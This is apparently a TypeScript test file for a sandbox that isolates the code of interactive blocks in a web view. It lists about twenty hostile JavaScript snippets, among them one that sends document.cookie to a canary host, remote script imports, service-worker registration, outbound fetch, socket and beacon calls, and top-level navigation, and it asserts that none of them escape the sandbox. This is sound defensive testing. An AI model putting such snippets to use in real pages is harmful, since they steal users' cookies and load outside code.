import { CANARY, OWN, type WebCase } from "./web_probe.ts";
import { testHostileViews } from "./web_stage.ts";

/** What a script of a block would do in a browser. There is no such script: each is the view's own code and handler. */
const REACHES: Readonly<Record<string, string>> = {
  "the page around it": `parent.document.title = "owned"`,
  "its own document": `document.title = "owned"; document.body.innerHTML = "<img src=${CANARY}/document>"`,
  "the address of the tab": `top.location = "${CANARY}/top"`,
  "its own address": `location.href = "${CANARY}/location"`,
  "a new window": `open("${CANARY}/open")`,
  "the storage": `localStorage.setItem("owned", "yes"); sessionStorage.owned = "yes"`,
  "the cookies": `document.cookie = "owned=yes"; new Image().src = "${CANARY}/" + document.cookie`,
  "fetch": `fetch("${CANARY}/fetch").catch(() => {})`,
  "XMLHttpRequest": `const x = new XMLHttpRequest(); x.open("GET", "${CANARY}/xhr"); x.send()`,
  "a beacon": `navigator.sendBeacon("${CANARY}/beacon", "x")`,
  "a picture": OWN,
  "a socket": `new WebSocket("${CANARY}/socket".replace("http", "ws"))`,
  "an event stream": `new EventSource("${CANARY}/stream")`,
  "WebRTC": `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] }).createDataChannel("x")`,
  "WebTransport": `new WebTransport("${CANARY}/transport".replace("http:", "https:"))`,
  "a nested frame":
    `const f = document.createElement("iframe"); f.srcdoc = "<script>${OWN}</script>"; document.body.append(f)`,
  "a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('${CANARY}/worker')"])))`,
  "a service worker": `navigator.serviceWorker.register("${CANARY}/sw.js")`,
  "a message": `parent.postMessage({ kind: "owned" }, "*"); new BroadcastChannel("x").postMessage("owned")`,
  "an import": `import("${CANARY}/import.js").catch(() => {})`,
  "eval": `(0, eval)("document.title = 'owned'"); new Function("document.title = 'owned'")()`,
};

testHostileViews(
  Object.entries(REACHES).map(([name, code]): WebCase => ({
    name: `116 the code of an interactive block does not reach the browser: ${name}`,
    nodes: [],
    code,
  })),
);
